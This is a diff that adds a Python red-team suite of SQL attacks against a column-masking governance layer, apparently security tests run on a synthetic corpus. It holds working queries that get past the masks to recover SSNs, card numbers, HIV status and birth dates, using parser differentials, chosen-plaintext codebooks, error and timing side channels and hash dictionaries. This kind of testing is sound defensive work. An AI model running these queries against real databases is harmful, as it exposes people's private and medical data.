@@ -1,0 +1,506 @@
+"""The attacks of issue 11, one function per attack, grouped by class.
+
+Each attack gets a `RedTeam` (a governed session as the corpus's masked identity) and the empty
+`Recovery` it fills: `rec.values[row id] = what it believes the sensitive value is`. It may use
+only what a real caller has: the governed session, public knowledge (value formats, an ICD-10
+category list, how the open-source masks work) and, where said, side knowledge of ONE record.
+A refusal (`Refused`) anywhere ends the attack with what it had.
+
+Row keys are chosen so every attacked set holds both answers of a yes/no target: a constant
+answer scores nothing (see `harness.score`).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import statistics
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+from harness import CORPUS_POLICY, POLICIES, REPO, Recovery, RedTeam
+
+ALL = tuple(range(1, 51))
+SSN_POSITIONS = (1, 2, 3, 5, 6, 8, 9, 10, 11)   # the digits of ddd-dd-dddd
+# Public knowledge: ICD-10 category codes an attacker would try (the corpus's and their neighbours).
+ICD_CATEGORIES = ("A00", "A09", "B18", "B20", "B24", "C34", "C50", "C61", "E10", "E11", "E66", "F20", "F32", "F41",
+                  "G40", "I10", "I21", "I25", "J18", "J44", "J45", "K21", "M17", "M54", "N18", "O80", "R51", "Z00",
+                  "Z11", "Z21")
+
+
+def _ssn(digits: list[str]) -> str:
+    d = "".join(digits)
+    return f"{d[:3]}-{d[3:5]}-{d[5:]}"
+
+
+def _varied(values: list[Any]) -> bool:
+    """A masked column that carries no information (redacted, nulled) shows one value or none."""
+    return len({repr(v) for v in values if v is not None}) > 1
+
+
+def _codebook_decode(rows: list[dict], key: str, columns: list[str], book_rows: Callable[[dict], bool],
+                     plain: Callable[[dict, str], Any]) -> dict[int, list[Any]]:
+    """Map each data row's masked outputs back to plaintext through the rows the attacker chose.
+
+    `book_rows(row)` picks the attacker's constant rows; `plain(row, column)` is the plaintext it put
+    there. A column whose masked values show no variation, or a token no constant row explains,
+    decodes to nothing.
+    """
+    book = [r for r in rows if book_rows(r)]
+    data = [r for r in rows if not book_rows(r)]
+    out: dict[int, list[Any]] = {}
+    for col in columns:
+        if not _varied([r[col] for r in rows]):
+            return {}
+        lookup = {r[col]: plain(r, col) for r in book if r[col] is not None}
+        for r in data:
+            if r[col] in lookup:
+                out.setdefault(r[key], []).append(lookup[r[col]])
+    return {k: v for k, v in out.items() if len(v) == len(columns)}
+
+
+# --- parser differentials --------------------------------------------------------------------------------
+
+def prefix_at_absolute(rt: RedTeam, rec: Recovery) -> Recovery:
+    """`@(...)` is PostgreSQL's absolute value; sqlglot read it as a parameter with no lineage."""
+    for r in rt.rows("SELECT id, @(replace(ssn, '-', '')::bigint) AS x FROM customers"):
+        if isinstance(r["x"], int):
+            rec.values[r["id"]] = _ssn(list(f"{r['x']:09d}"))
+    return rec
+
+
+def prefix_at_per_character(rt: RedTeam, rec: Recovery) -> Recovery:
+    """The same through ascii(): `@(ascii(substr(ssn, k, 1)))`, one column per digit."""
+    cols = ", ".join(f"@(ascii(substr(ssn, {p}, 1))) AS d{p}" for p in SSN_POSITIONS)
+    for r in rt.rows(f"SELECT id, {cols} FROM customers"):
+        digits = [r[f"d{p}"] for p in SSN_POSITIONS]
+        if all(isinstance(d, int) for d in digits):
+            rec.values[r["id"]] = _ssn([chr(d) for d in digits])
+    return rec
+
+
+def sibling_binding_comma(rt: RedTeam, rec: Recovery) -> Recovery:
+    """A non-LATERAL FROM subquery naming a sibling's column: sqlglot binds the sibling, PostgreSQL the outer row."""
+    sql = ("SELECT o.id, (SELECT q.x FROM (SELECT 'n' AS card_number) z, (SELECT card_number AS x) q) AS x "
+           "FROM orders o")
+    for r in rt.rows(sql):
+        if isinstance(r["x"], str) and r["x"] != "n":
+            rec.values[r["id"]] = r["x"]
+    return rec
+
+
+def sibling_binding_join(rt: RedTeam, rec: Recovery) -> Recovery:
+    """The same differential through JOIN ... ON true instead of a comma."""
+    sql = ("SELECT c.id, (SELECT q.x FROM (SELECT 'n' AS ssn) z JOIN (SELECT ssn AS x) q ON true) AS x "
+           "FROM customers c")
+    for r in rt.rows(sql):
+        if isinstance(r["x"], str) and r["x"] != "n":
+            rec.values[r["id"]] = r["x"]
+    return rec
+
+
+LEXICAL_SHAPES = (
+    "SELECT id, U&\"\\0073sn\" AS x FROM customers",
+    "SELECT id, '\\' AS y, ssn AS x FROM customers -- '",
+    "SELECT id, E'\\'' AS y, ssn AS x FROM customers",
+    "SELECT id, $q$ $$ ' $q$ AS y, ssn AS x FROM customers",
+    "SELECT id, /* a /* nested */ comment */ ssn AS x FROM customers",
+    "SELECT id, \"ssn\" AS x FROM \"public\".\"customers\"",
+    "SELECT c.id, c.x FROM customers AS c(id, full_name, email, x)",
+)
+
+
+def lexical_differentials(rt: RedTeam, rec: Recovery) -> Recovery:
+    """Unicode escapes, backslashes, dollar quoting, nested comments, column alias lists: read raw ssn if misread."""
+    for sql in LEXICAL_SHAPES:
+        try:
+            rows = rt.rows(sql)
+        except Exception:  # noqa: BLE001 - a refused or failing shape recovers nothing; try the next
+            continue
+        for r in rows:
+            if isinstance(r.get("x"), str) and len(r["x"]) == 11 and r["x"][3] == "-":
+                rec.values[r["id"]] = r["x"]
+    return rec
+
+
+# --- chosen plaintext through a deterministic mask ---------------------------------------------------------
+
+# Appended to every chosen digit: the masked inputs are then 10 long, distinct strings, so even a
+# mask that collides on single digits (format_preserving) gives a one-to-one codebook.
+PAD = "qzqzqzqz"
+
+
+def _digit_columns(expr: str) -> str:
+    return ", ".join(expr.format(p=p) + f" || '{PAD}' AS d{p}" for p in SSN_POSITIONS)
+
+
+def codebook_union_all(rt: RedTeam, rec: Recovery) -> Recovery:
+    """A UNION ALL branch of constants passes the attacker's digits through the same key as substr(ssn, k, 1)."""
+    consts = ", ".join(f"g::text || '{PAD}' AS d{p}" for p in SSN_POSITIONS)
+    sql = (f"SELECT id, {_digit_columns('substr(ssn, {p}, 1)')} FROM customers "
+           f"UNION ALL SELECT -1 - g, {consts} FROM generate_series(0, 9) g")
+    cols = [f"d{p}" for p in SSN_POSITIONS]
+    decoded = _codebook_decode(rt.rows(sql), "id", cols, lambda r: r["id"] < 0, lambda r, c: str(-1 - r["id"]))
+    rec.values.update({k: _ssn(v) for k, v in decoded.items()})
+    return rec
+
+
+def codebook_substr_concat(rt: RedTeam, rec: Recovery) -> Recovery:
+    """`substr(ssn, 1, 0) || 'd'` is the constant d, masked with the same key as the real digits."""
+    book = ", ".join(f"substr(ssn, 1, 0) || '{d}{PAD}' AS k{d}" for d in range(10))
+    rows = rt.rows(f"SELECT id, {_digit_columns('substr(ssn, {p}, 1)')}, {book} FROM customers")
+    if not rows or not _varied([r["d5"] for r in rows]):
+        return rec
+    for r in rows:
+        lookup = {r[f"k{d}"]: str(d) for d in range(10)}
+        if len(lookup) < 10:       # the constants must map to distinct tokens to be a codebook
+            continue
+        digits = [lookup.get(r[f"d{p}"]) for p in SSN_POSITIONS]
+        if all(digits):
+            rec.values[r["id"]] = _ssn(digits)
+    return rec
+
+
+def codebook_hiv_status(rt: RedTeam, rec: Recovery) -> Recovery:
+    """One query, every patient's HIV status: left(diagnosis, 3) beside the constant 'B20' in a UNION ALL."""
+    rows = rt.rows("SELECT id, left(diagnosis, 3) AS c FROM patients UNION ALL SELECT 0, 'B20'")
+    marker = [r["c"] for r in rows if r["id"] == 0]
+    if marker and marker[0] is not None and _varied([r["c"] for r in rows]):
+        rec.values.update({r["id"]: r["c"] == marker[0] for r in rows if r["id"] > 0})
+    return rec
+
+
+def codebook_format_preserving(rt: RedTeam, rec: Recovery) -> Recovery:
+    """format_preserving (policy variant) falls to the same UNION ALL codebook."""
+    return codebook_union_all(rt, rec)
+
+
+def codebook_format_preserving_concat(rt: RedTeam, rec: Recovery) -> Recovery:
+    return codebook_substr_concat(rt, rec)
+
+
+# --- oracles without literals ---------------------------------------------------------------------------
+
+def _counts_with_codebook(rt: RedTeam, select: str, columns: list[str], top: int) -> dict[int, list[int]]:
+    """Per-row counts, decoded through a UNION ALL branch that puts 0..top through the same column (and mask).
+
+    The branch's counts are computed, not literal, as a real caller would write them to pass a
+    constant detector. Clear output decodes the same way (the book maps k to k).
+    """
+    consts = ", ".join(f"(SELECT count(*) FROM generate_series(1, g)) AS {c}" for c in columns)
+    rows = rt.rows(f"{select} UNION ALL SELECT -1 - g, {consts} FROM generate_series(0, {top}) g")
+    return _codebook_decode(rows, "id", columns, lambda r: r["id"] < 0, lambda r, c: -1 - r["id"])
+
+
+def threshold_generate_series(rt: RedTeam, rec: Recovery) -> Recovery:
+    """`sign(length(ssn)) * g.v < ascii(substr(ssn, k, 1))` over generate_series counts each digit, no literal test."""
+    counts = ", ".join(
+        f"(SELECT count(*) FROM generate_series(48, 57) g(v) WHERE sign(length(c.ssn)) * g.v < "
+        f"ascii(substr(c.ssn, {p}, 1))) AS d{p}" for p in SSN_POSITIONS)
+    cols = [f"d{p}" for p in SSN_POSITIONS]
+    decoded = _counts_with_codebook(rt, f"SELECT c.id, {counts} FROM customers c", cols, 10)
+    rec.values.update({k: _ssn([str(d) for d in v]) for k, v in decoded.items()})
+    return rec
+
+
+def threshold_length_concat(rt: RedTeam, rec: Recovery) -> Recovery:
+    """`length(email || email)` against a generated series: twice the length, never compared with a literal."""
+    select = ("SELECT c.id, (SELECT count(*) FROM generate_series(1, 200) g WHERE g <= length(c.email || c.email)) "
+              "AS n FROM customers c")
+    decoded = _counts_with_codebook(rt, select, ["n"], 200)
+    rec.values.update({k: v[0] // 2 for k, v in decoded.items()})
+    return rec
+
+
+def two_range_atoms(rt: RedTeam, rec: Recovery) -> Recovery:
+    """Equality as two ranges (>= 'B20' AND < 'B21') inside a per-row count."""
+    select = ("SELECT t.id, (SELECT count(*) FROM patients p WHERE p.id = t.id AND p.diagnosis >= 'B20' "
+              "AND p.diagnosis < 'B21') AS n FROM patients t")
+    decoded = _counts_with_codebook(rt, select, ["n"], 1)
+    rec.values.update({k: v[0] == 1 for k, v in decoded.items()})
+    return rec
+
+
+DEDUP_KEYS = (1, 2, 5, 6, 7, 13)
+
+
+def _dedup(rt: RedTeam, rec: Recovery, template: str) -> Recovery:
+    """Per row: does its category collapse with the guess 'B20'? One bit per query.
+
+    Calibration: the same statement for a row that does not exist counts the guess alone (1),
+    which also tells what a masked "1" looks like.
+    """
+    def n_for(k: int) -> Any:
+        rows = rt.rows(template.format(k=k))
+        return rows[0]["n"] if rows else None
+
+    one = n_for(-1)
+    seen = {k: n_for(k) == one for k in rec.keys}
+    if one is not None:
+        rec.values.update(seen)
+    return rec
+
+
+def dedup_union(rt: RedTeam, rec: Recovery) -> Recovery:
+    return _dedup(rt, rec, "SELECT count(*) AS n FROM (SELECT left(diagnosis, 3) FROM patients WHERE id = {k} "
+                           "UNION SELECT 'B20') u")
+
+
+def dedup_distinct(rt: RedTeam, rec: Recovery) -> Recovery:
+    return _dedup(rt, rec, "SELECT count(DISTINCT u.x) AS n FROM (SELECT left(diagnosis, 3) AS x FROM patients "
+                           "WHERE id = {k} UNION ALL SELECT 'B20') u")
+
+
+def dedup_group_by(rt: RedTeam, rec: Recovery) -> Recovery:
+    return _dedup(rt, rec, "SELECT count(*) AS n FROM (SELECT u.x FROM (SELECT left(diagnosis, 3) AS x FROM patients "
+                           "WHERE id = {k} UNION ALL SELECT 'B20') u GROUP BY u.x) w")
+
+
+def dedup_guess_dictionary(rt: RedTeam, rec: Recovery) -> Recovery:
+    """Every patient x every ICD category in one query: the union with the right guess has one row."""
+    guesses = ", ".join(f"'{g}'" for g in ICD_CATEGORIES)
+    sql = (f"SELECT t.id, g.guess, (SELECT count(*) FROM (SELECT left(p.diagnosis, 3) FROM patients p "
+           f"WHERE p.id = t.id UNION SELECT g.guess) u) AS n FROM patients t, unnest(ARRAY[{guesses}]) g(guess) "
+           f"UNION ALL SELECT -1 - k, 'constant', (SELECT count(*) FROM generate_series(1, k)) FROM generate_series(0, 2) k")
+    rows = rt.rows(sql)
+    book = {r["n"]: -1 - r["id"] for r in rows if r["id"] < 0}
+    one = next((tok for tok, v in book.items() if v == 1), None)
+    if one is None or len(book) < 3 or not _varied([r["n"] for r in rows]):
+        return rec
+    hits: dict[int, list[str]] = {}
+    for r in rows:
+        if r["id"] >= 0 and r["n"] == one:
+            hits.setdefault(r["id"], []).append(r["guess"])
+    rec.values.update({k: v[0] for k, v in hits.items() if len(v) == 1})
+    return rec
+
+
+# --- "population-level" judged wrongly ---------------------------------------------------------------
+
+def scalar_subquery_aggregate(rt: RedTeam, rec: Recovery) -> Recovery:
+    """An aggregate inside a select-list scalar subquery, correlated on the key: one row's predicate."""
+    select = ("SELECT t.id, (SELECT count(*) FROM patients p WHERE p.id = t.id AND p.diagnosis LIKE 'B20%') AS n "
+              "FROM patients t")
+    decoded = _counts_with_codebook(rt, select, ["n"], 1)
+    rec.values.update({k: v[0] == 1 for k, v in decoded.items()})
+    return rec
+
+
+def _groups_name_rows(rt: RedTeam, rec: Recovery, sql: str, key: str) -> Recovery:
+    """A GROUP BY whose groups are single rows: the keys that come back are the rows that matched."""
+    rows = rt.rows(sql)
+    hits = {r[key] for r in rows if isinstance(r[key], int)}
+    if hits:  # an empty answer (no rows, or groups withheld) says nothing about anyone
+        rec.values.update({k: k in hits for k in rec.keys})
+    return rec
+
+
+def group_by_ordinal_expression(rt: RedTeam, rec: Recovery) -> Recovery:
+    """`GROUP BY 1` over `id + 0`: the grouping key is the primary key in disguise."""
+    return _groups_name_rows(rt, rec, "SELECT id + 0 AS k, count(*) AS n FROM patients "
+                                      "WHERE diagnosis LIKE 'B20%' GROUP BY 1", "k")
+
+
+def group_by_aliased_id(rt: RedTeam, rec: Recovery) -> Recovery:
+    return _groups_name_rows(rt, rec, "SELECT pid, count(*) AS n FROM (SELECT id AS pid, diagnosis FROM patients) s "
+                                      "WHERE diagnosis LIKE 'B20%' GROUP BY pid", "pid")
+
+
+def group_by_lateral_rename(rt: RedTeam, rec: Recovery) -> Recovery:
+    return _groups_name_rows(rt, rec, "SELECT l.k, count(*) AS n FROM patients p, LATERAL (SELECT p.id AS k) l "
+                                      "WHERE p.diagnosis LIKE 'B20%' GROUP BY l.k", "k")
+
+
+def _created_at_ids(rt: RedTeam) -> dict[Any, int]:
+    return {r["created_at"]: r["id"] for r in rt.rows("SELECT id, created_at FROM customers")}
+
+
+def group_by_unique_non_key(rt: RedTeam, rec: Recovery) -> Recovery:
+    """Grouping by created_at, unique though not a key, names one customer per group."""
+    rows = rt.rows("SELECT created_at, count(*) AS n FROM customers WHERE birth_date < '1970-01-01' "
+                   "GROUP BY created_at")
+    ids = _created_at_ids(rt)
+    hits = {ids[r["created_at"]] for r in rows if r["created_at"] in ids}
+    if hits:
+        rec.values.update({k: k in hits for k in rec.keys})
+    return rec
+
+
+def array_agg_unique_column(rt: RedTeam, rec: Recovery) -> Recovery:
+    """array_agg of a unique column returns the rows themselves."""
+    rows = rt.rows("SELECT array_agg(created_at) AS a FROM customers WHERE birth_date < '1970-01-01'")
+    ids = _created_at_ids(rt)
+    got = rows[0]["a"] if rows else None
+    if isinstance(got, list) and got:
+        hits = {ids[v] for v in got if v in ids}
+        rec.values.update({k: k in hits for k in rec.keys})
+    return rec
+
+
+def array_agg_of_key(rt: RedTeam, rec: Recovery) -> Recovery:
+    rows = rt.rows("SELECT array_agg(id) AS a FROM patients WHERE diagnosis LIKE 'B20%'")
+    got = rows[0]["a"] if rows else None
+    if isinstance(got, list) and got and all(isinstance(v, int) for v in got):
+        rec.values.update({k: k in set(got) for k in rec.keys})
+    return rec
+
+
+def max_of_unique_column(rt: RedTeam, rec: Recovery) -> Recovery:
+    """max(created_at) over 'customers up to this one who match' changes exactly at the rows that match.
+
+    Works on masked output too: walking in created_at order, a matching row is where the (token of
+    the) running max changes.
+    """
+    rows = rt.rows("SELECT t.id, t.created_at AS mine, (SELECT max(c.created_at) FROM customers c "
+                   "WHERE c.birth_date < '1970-01-01' AND c.created_at <= t.created_at) AS m FROM customers t")
+    if not rows or not _varied([r["m"] for r in rows]) or any(r["mine"] is None for r in rows):
+        return rec
+    previous = None
+    for r in sorted(rows, key=lambda r: r["mine"]):
+        rec.values[r["id"]] = r["m"] is not None and r["m"] != previous
+        previous = r["m"]
+    return rec
+
+
+# --- error channels: the test in a select-list CASE, the failure on non-sensitive data ----------------------
+
+ERROR_FAILURES = {
+    "division": "1 / (id - id)",
+    "cast": "('x' || id)::int",
+    "lpad": "length(lpad('x', id * 1000000000))",
+    "width_bucket": "width_bucket(id, id, id, 1)",
+    "cardinality": "cardinality(array_fill(0, ARRAY[id * 1000000000]))",
+    "regex": "length(substring('a' from '(' || id::text))",
+    "date_overflow": "(date '2000-01-01' + id * 100000000) - date '2000-01-01'",
+}
+# Per failure three patients, exactly one of them with a B20 diagnosis.
+ERROR_KEYS = {"division": (5, 6, 7), "cast": (12, 13, 15), "lpad": (14, 16, 17), "width_bucket": (27, 28, 30),
+              "cardinality": (29, 31, 33), "regex": (32, 34, 35), "date_overflow": (40, 41, 42)}
+
+
+def error_channel(failure: str) -> Callable[[RedTeam, Recovery], Recovery]:
+    expr = ERROR_FAILURES[failure]
+
+    def attack(rt: RedTeam, rec: Recovery) -> Recovery:
+        bits = {}
+        for k in rec.keys:
+            bits[k] = rt.probe_error(f"SELECT id, CASE WHEN diagnosis LIKE 'B20%' THEN {expr} ELSE 0 END AS x "
+                                     f"FROM patients WHERE id = {k}")
+        rec.values.update(bits)
+        return rec
+
+    attack.__doc__ = f"CASE WHEN <sensitive test> THEN <{failure} failure on id> ELSE 0: an error is one bit."
+    return attack
+
+
+# --- timing ------------------------------------------------------------------------------------------
+
+TIMING_KEYS = (6, 7, 13, 15)
+
+
+def timing_initplan(rt: RedTeam, rec: Recovery) -> Recovery:
+    """An uncorrelated InitPlan that runs only when a sensitive test takes its branch: slow means yes.
+
+    The plan being allowed is the leak (the query's work depends on a sensitive test); the timings
+    are measured and used, never asserted.
+    """
+    heavy = "(SELECT count(*) * 0 FROM generate_series(1, 2000000))"
+    times = {}
+    for k in rec.keys:
+        sql = f"SELECT id, CASE WHEN diagnosis LIKE 'B20%' THEN {heavy} ELSE 0 END AS x FROM patients WHERE id = {k}"
+        times[k] = statistics.median(rt.timed(sql) for _ in range(2))
+        rec.channel_open = True
+    low, high = min(times.values()), max(times.values())
+    if high > 1.5 * low:
+        cut = (low + high) / 2
+        rec.values.update({k: t > cut for k, t in times.items()})
+    return rec
+
+
+# --- mask semantics ----------------------------------------------------------------------------------
+
+def shift_date_constant_subject(rt: RedTeam, rec: Recovery) -> Recovery:
+    """shift_date(subject: id) took the subject from the output NAME: `1 AS id` gives everyone one offset.
+
+    Side knowledge: the attacker knows patient 1's birth date (its own record); that fixes the offset.
+    """
+    import datetime
+
+    rows = rt.rows("SELECT 1 AS id, birth_date, id AS pid FROM patients")
+    mine = [r for r in rows if r["pid"] == 1]
+    if not mine or not isinstance(mine[0]["birth_date"], datetime.date):
+        return rec
+    offset = mine[0]["birth_date"] - rt.known("patients.birth_date", 1)
+    rec.values.update({r["pid"]: r["birth_date"] - offset for r in rows
+                       if r["pid"] in rec.keys and isinstance(r["birth_date"], datetime.date)})
+    return rec
+
+
+def keyless_hash_dictionary(rt: RedTeam, rec: Recovery) -> Recovery:
+    """Keyless hash of a 5-digit zip: hash all 100,000 candidates and look the outputs up."""
+    rows = rt.rows("SELECT id, zip FROM customers")
+    book = {hashlib.sha256(f"{z:05d}".encode()).hexdigest(): f"{z:05d}" for z in range(100_000)}
+    rec.values.update({r["id"]: book[r["zip"]] for r in rows if r["zip"] in book})
+    return rec
+
+
+def generalize_keeps_category(rt: RedTeam, rec: Recovery) -> Recovery:
+    """A shipped policy's `generalize keep: 3` on diagnosis returns the ICD category ('B20**' is HIV)."""
+    rows = rt.rows("SELECT id, diagnosis FROM patients")
+    rec.values.update({r["id"]: r["diagnosis"][:3] for r in rows
+                       if isinstance(r["diagnosis"], str) and r["diagnosis"][:3].isalnum()})
+    return rec
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    cls: str
+    target: str
+    run: Callable[[RedTeam, Recovery], Recovery]
+    keys: tuple[int, ...] = ALL
+    policy: Path = CORPUS_POLICY
+
+
+ATTACKS: tuple[Attack, ...] = (
+    Attack("prefix_at_absolute", "parser differential", "customers.ssn", prefix_at_absolute),
+    Attack("prefix_at_per_character", "parser differential", "customers.ssn", prefix_at_per_character),
+    Attack("sibling_binding_comma", "parser differential", "orders.card_number", sibling_binding_comma),
+    Attack("sibling_binding_join", "parser differential", "customers.ssn", sibling_binding_join),
+    Attack("lexical_differentials", "parser differential", "customers.ssn", lexical_differentials),
+    Attack("codebook_union_all", "chosen plaintext", "customers.ssn", codebook_union_all),
+    Attack("codebook_substr_concat", "chosen plaintext", "customers.ssn", codebook_substr_concat),
+    Attack("codebook_hiv_status", "chosen plaintext", "patients.hiv", codebook_hiv_status),
+    Attack("codebook_format_preserving", "chosen plaintext", "customers.ssn", codebook_format_preserving,
+           policy=POLICIES / "format_preserving.yaml"),
+    Attack("codebook_format_preserving_concat", "chosen plaintext", "customers.ssn",
+           codebook_format_preserving_concat, policy=POLICIES / "format_preserving.yaml"),
+    Attack("threshold_generate_series", "oracle without literals", "customers.ssn", threshold_generate_series),
+    Attack("threshold_length_concat", "oracle without literals", "customers.email_length", threshold_length_concat),
+    Attack("two_range_atoms", "oracle without literals", "patients.hiv", two_range_atoms),
+    Attack("dedup_union", "oracle without literals", "patients.hiv", dedup_union, DEDUP_KEYS),
+    Attack("dedup_distinct", "oracle without literals", "patients.hiv", dedup_distinct, DEDUP_KEYS),
+    Attack("dedup_group_by", "oracle without literals", "patients.hiv", dedup_group_by, DEDUP_KEYS),
+    Attack("dedup_guess_dictionary", "oracle without literals", "patients.category", dedup_guess_dictionary),
+    Attack("scalar_subquery_aggregate", "population-level misjudged", "patients.hiv", scalar_subquery_aggregate),
+    Attack("group_by_ordinal_expression", "population-level misjudged", "patients.hiv", group_by_ordinal_expression),
+    Attack("group_by_aliased_id", "population-level misjudged", "patients.hiv", group_by_aliased_id),
+    Attack("group_by_lateral_rename", "population-level misjudged", "patients.hiv", group_by_lateral_rename),
+    Attack("group_by_unique_non_key", "population-level misjudged", "customers.born_before_1970",
+           group_by_unique_non_key),
+    Attack("array_agg_unique_column", "population-level misjudged", "customers.born_before_1970",
+           array_agg_unique_column),
+    Attack("array_agg_of_key", "population-level misjudged", "patients.hiv", array_agg_of_key),
+    Attack("max_of_unique_column", "population-level misjudged", "customers.born_before_1970", max_of_unique_column),
+    *(Attack(f"error_{f}", "error channel", "patients.hiv", error_channel(f), ERROR_KEYS[f]) for f in ERROR_FAILURES),
+    Attack("timing_initplan", "timing", "patients.hiv", timing_initplan, TIMING_KEYS),
+    Attack("shift_date_constant_subject", "mask semantics", "patients.birth_date", shift_date_constant_subject,
+           tuple(range(2, 51)), POLICIES / "shift_date.yaml"),
+    Attack("keyless_hash_dictionary", "mask semantics", "customers.zip", keyless_hash_dictionary,
+           policy=POLICIES / "keyless_hash.yaml"),
+    Attack("generalize_keeps_category_example", "mask semantics", "patients.category", generalize_keeps_category,
+           policy=REPO / "examples" / "policy.yaml"),
+    Attack("generalize_keeps_category_demo", "mask semantics", "patients.category", generalize_keeps_category,
+           policy=REPO / "lineage_guard" / "demo" / "policy.yaml"),
+)
